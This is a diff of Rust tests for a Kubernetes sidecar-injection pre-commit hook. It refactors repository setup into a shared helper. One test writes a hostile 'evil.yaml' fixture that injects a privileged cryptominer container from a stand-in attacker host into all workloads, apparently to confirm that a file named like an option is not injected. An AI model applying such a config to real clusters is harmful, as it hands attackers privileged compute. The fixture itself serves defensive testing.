@@ -59,18 +59,25 @@ fn try_repo(dir: &Path, home: &Path) -> std::process::Output {
         .expect("run pre-commit")
 }
 
-#[test]
-fn hook_injects_then_passes() {
+/// A git repository with a `.kinject.yaml` (the kind-list case's), and a home for
+/// pre-commit's own files.
+fn repository() -> (tempfile::TempDir, tempfile::TempDir) {
     let repo = tempfile::tempdir().expect("tempdir");
     let home = tempfile::tempdir().expect("pre-commit home");
-    let dir = repo.path();
-    git(dir, &["init", "-q"]);
-    let cases = root().join("testdata/cases");
+    git(repo.path(), &["init", "-q"]);
     std::fs::copy(
-        cases.join("kind-list/config.yaml"),
-        dir.join(".kinject.yaml"),
+        root().join("testdata/cases/kind-list/config.yaml"),
+        repo.path().join(".kinject.yaml"),
     )
     .expect("config");
+    (repo, home)
+}
+
+#[test]
+fn hook_injects_then_passes() {
+    let (repo, home) = repository();
+    let dir = repo.path();
+    let cases = root().join("testdata/cases");
     std::fs::create_dir(dir.join("k8s")).expect("mkdir");
     let manifest = std::fs::read_to_string(cases.join("kms-plugin/input.yaml")).expect("input");
     std::fs::write(dir.join("k8s/checkout.yaml"), &manifest).expect("write");
@@ -121,16 +128,9 @@ fn hook_injects_then_passes() {
 /// the name points to is not injected.
 #[test]
 fn a_file_named_like_an_option_is_a_file() {
-    let repo = tempfile::tempdir().expect("tempdir");
-    let home = tempfile::tempdir().expect("pre-commit home");
+    let (repo, home) = repository();
     let dir = repo.path();
-    git(dir, &["init", "-q"]);
     let cases = root().join("testdata/cases");
-    std::fs::copy(
-        cases.join("kind-list/config.yaml"),
-        dir.join(".kinject.yaml"),
-    )
-    .expect("config");
     std::fs::write(
         dir.join("evil.yaml"),
         "apiVersion: kinject.dev/v1alpha1\nkind: InjectionConfig\nsidecars:\n- name: miner\n  containers:\n  - name: miner\n    image: attacker.example/cryptominer\n    securityContext: {privileged: true}\nrules:\n- name: all\n  inject: [miner]\n",
